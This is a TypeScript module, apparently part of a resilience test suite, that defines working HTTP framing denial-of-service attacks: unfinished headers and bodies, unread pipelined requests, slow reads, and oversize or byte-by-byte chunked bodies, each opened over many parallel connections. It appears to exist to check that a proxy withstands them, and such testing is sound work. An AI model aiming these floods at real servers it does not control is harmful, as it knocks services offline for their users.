import { type Attack, flood, hold, JSON_HEADERS, postTo, unknownKey } from './attack.js';
import { inParallel, requestText } from './raw-client.js';

/** The end of a chunked request: a body of which every byte is a piece of its own. */
const crumbs = `${'1\r\n \r\n'.repeat(300_000)}0\r\n\r\n`;
const CRUMBLED = { ...JSON_HEADERS, 'transfer-encoding': 'chunked' };

/** Connections of those who never read. */
export const UNREADING = 40;

/** Attacks on HTTP framing rather than with requests: a proxy takes these (R13). */
export const FRAMING = {
  /** A slow request, many more behind it on the same connection, and gone. */
  'pipeline-then-close': (target, signal) =>
    inParallel(20, signal, () =>
      hold(target, signal, (socket) => {
        const slow = requestText({ ...target, key: unknownKey }, 'GET /v2/flow/x');
        socket.write(slow + requestText({ url: target.url }, 'GET /nothing').repeat(40));
        setTimeout(() => socket.destroy(), 20);
      }),
    ),

  /**
   * Asks for more than the system keeps for it, though no faster than it may, and reads nothing.
   */
  'never-read': (target, signal) =>
    inParallel(UNREADING, signal, () =>
      hold(target, signal, (socket) => {
        socket.pause();
        const ask = () => socket.write(requestText(target, 'GET /docs/viewer.js'));
        const asking = setInterval(ask, 1_000);
        socket.once('close', () => clearInterval(asking));
        ask();
      }),
    ),

  /** Sends requests ahead as fast as they are taken, and reads none of the answers. */
  'unread-pipelines': (target, signal) =>
    inParallel(UNREADING, signal, () =>
      hold(target, signal, (socket) => {
        socket.pause();
        const requests = requestText(target, 'GET /nothing').repeat(500);
        const send = (): void =>
          void (!socket.destroyed && socket.write(requests, () => setImmediate(send)));
        send();
      }),
    ),

  /** Asks for much and reads a little of it now and then. */
  'slow-reads': (target, signal) =>
    inParallel(40, signal, () =>
      hold(target, signal, (socket) => {
        socket.pause();
        socket.on('data', () => socket.pause());
        const sips = setInterval(() => socket.resume(), 200);
        socket.once('close', () => clearInterval(sips));
        socket.write(requestText(target, 'GET /docs/json').repeat(100));
      }),
    ),

  /** A head that is never finished. */
  'slow-heads': (target, signal) =>
    inParallel(1_000, signal, () =>
      hold(target, signal, (socket) => socket.write('GET /health HTTP/1.1\r\nx-slow: ')),
    ),

  /** A body that never comes. */
  'slow-bodies': (target, signal) =>
    inParallel(1_000, signal, () =>
      hold(target, signal, (socket) =>
        socket.write(requestText(target, postTo(target), { ...JSON_HEADERS, 'content-length': 2 })),
      ),
    ),

  /** Bodies of which all but the last byte comes. */
  'unfinished-bodies': (target, signal) =>
    inParallel(200, signal, () =>
      hold(target, signal, (socket) => {
        socket.write(
          requestText(target, postTo(target), { ...JSON_HEADERS, 'content-length': 1_000_000 }),
        );
        socket.write(Buffer.alloc(999_999, ' '));
      }),
    ),

  /** Larger than is allowed, with its length and without. */
  'oversize-bodies': (target, signal) =>
    inParallel(40, signal, () =>
      hold(target, signal, (socket) => {
        socket.resume();
        socket.write(
          requestText(target, postTo(target), { ...JSON_HEADERS, 'transfer-encoding': 'chunked' }),
        );
        const chunk = `${(65_536).toString(16)}\r\n${' '.repeat(65_536)}\r\n`;
        const send = (): void =>
          void (!socket.destroyed && socket.write(chunk, () => setImmediate(send)));
        send();
      }),
    ),

  /** A megabyte, byte by byte. */
  'crumbled-bodies': flood((target) => requestText(target, postTo(target), CRUMBLED, crumbs), 100),

  /** The same by somebody whose key is refused before. */
  'crumbled-by-strangers': flood(
    (target) => requestText({ ...target, key: unknownKey }, postTo(target), CRUMBLED, crumbs),
    100,
  ),
} satisfies Record<string, Attack>;
